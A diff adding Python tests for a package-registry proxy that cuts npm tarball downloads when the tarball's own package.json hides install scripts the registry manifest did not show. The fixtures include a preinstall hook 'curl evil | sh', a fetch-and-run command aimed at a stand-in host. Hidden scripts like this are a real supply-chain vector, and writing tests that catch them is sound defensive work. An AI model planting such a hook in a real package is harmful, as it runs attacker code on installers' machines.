@@ -1,0 +1,113 @@
+"""Manifest confusion against the install-scripts rule: a publisher shows the registry a
+manifest without scripts and ships a tarball whose own package.json has a `postinstall`.
+
+The rule judges the manifest, but yarn 1 runs the package.json inside the tarball, so the relay
+reads the tarball's own files too where the rule applies, and cuts the download before its end
+when they run code at install (`npm.tarscripts`).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import json
+from pathlib import Path
+
+import aiohttp
+from structlog.testing import capture_logs
+
+from mirrorgate.rules import parse_rules
+from tests.serve.rig import RunningProxy, StartProxy
+from tests.servers.fixture_registry import FixtureRegistry
+from tests.servers.package_managers import client
+from tests.servers.packages import FixtureVersion, build_tarball, make_package, make_version
+
+BLOCK = parse_rules("[install_scripts]\nblock = true\n", "rules.toml")
+
+
+def confused(name: str, inner: dict[str, object], **files: bytes) -> FixtureVersion:
+    """A version whose registry manifest shows no scripts, its tarball's package.json `inner`."""
+    contents = {"package.json": json.dumps({"name": name, "version": "1.0.0", **inner}).encode(),
+                "index.js": b"module.exports = 1\n", **files}
+    return make_version(name, "1.0.0", tarball=build_tarball(contents))
+
+
+async def read_cut(proxy: RunningProxy, path: str) -> bytes:
+    """The body of a download the proxy cuts (whatever arrived before the cut)."""
+    async with proxy.session.get(proxy.url + path) as answer:
+        assert answer.status == 200  # the status left before the tarball's end was read
+        received = bytearray()
+        with contextlib.suppress(aiohttp.ClientPayloadError):
+            async for chunk in answer.content.iter_any():
+                received += chunk
+        return bytes(received)
+
+
+async def test_yarn1_never_runs_a_postinstall_the_manifest_hid(
+        public_registry: FixtureRegistry, start_proxy: StartProxy, tmp_path: Path) -> None:
+    marker = tmp_path / "pwned"
+    script = f"node -e \"require('fs').writeFileSync(process.argv[1], 'x')\" {marker}"
+    public_registry.add(make_package("confused-yarn", [
+        confused("confused-yarn", {"scripts": {"postinstall": script}})]))
+    proxy = await start_proxy(public_registry.url, rules=BLOCK)
+    yarn = client("yarn1", tmp_path / "yarn")
+    yarn.configure(proxy.registry)
+    yarn.write_project({"confused-yarn": "1.0.0"})
+    # scripts on, as a build that does not pass --ignore-scripts runs them
+    flags = [flag for flag in yarn.isolation() if flag != "--ignore-scripts"]
+
+    run = await asyncio.to_thread(yarn.run, "install", *flags)
+
+    assert not marker.exists(), "the tarball's postinstall ran"
+    assert run.returncode != 0
+    assert proxy.metric("mirrorgate_rule_denials_total", rule="install-scripts") >= 1
+    assert await proxy.jobs() == []  # nothing cut is ever mirrored
+
+
+async def test_the_download_is_cut_before_its_end_and_the_reason_logged(
+        public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
+    version = confused("confused-cut", {"scripts": {"preinstall": "curl evil | sh"}},
+                       **{"filler.bin": bytes(range(256)) * 2048})
+    public_registry.add(make_package("confused-cut", [version]))
+    proxy = await start_proxy(public_registry.url, rules=BLOCK)
+
+    with capture_logs() as logs:
+        body = await read_cut(proxy, "npm/confused-cut/-/confused-cut-1.0.0.tgz")
+
+    assert body != version.tarball
+    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
+    assert line["security"] is True
+    assert line["rule"] == "install-scripts"
+    assert "preinstall" in line["reason"]
+    assert await proxy.jobs() == []
+
+
+async def test_a_binding_gyp_counts_as_an_install_script(
+        public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
+    # npm and yarn run `node-gyp rebuild` for a root binding.gyp, and gyp runs `<!(commands)`
+    version = confused("confused-gyp", {}, **{"binding.gyp": b"{'targets': []}"})
+    public_registry.add(make_package("confused-gyp", [version]))
+    proxy = await start_proxy(public_registry.url, rules=BLOCK)
+
+    with capture_logs() as logs:
+        body = await read_cut(proxy, "npm/confused-gyp/-/confused-gyp-1.0.0.tgz")
+
+    assert body != version.tarball
+    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
+    assert "binding.gyp" in line["reason"]
+
+
+async def test_allowed_names_and_script_free_tarballs_stream_whole(
+        public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
+    scripted = confused("confused-ok", {"scripts": {"postinstall": "node build.js"}})
+    plain = confused("confused-plain", {"scripts": {"test": "node test.js"}})
+    public_registry.add(make_package("confused-ok", [scripted]),
+                        make_package("confused-plain", [plain]))
+    rules = parse_rules('[install_scripts]\nblock = true\nallow = ["confused-ok"]\n', "r.toml")
+    proxy = await start_proxy(public_registry.url, rules=rules)
+
+    allowed = await proxy.get("npm/confused-ok/-/confused-ok-1.0.0.tgz")
+    clean = await proxy.get("npm/confused-plain/-/confused-plain-1.0.0.tgz")
+
+    assert (allowed.status, allowed.body) == (200, scripted.tarball)
+    assert (clean.status, clean.body) == (200, plain.tarball)
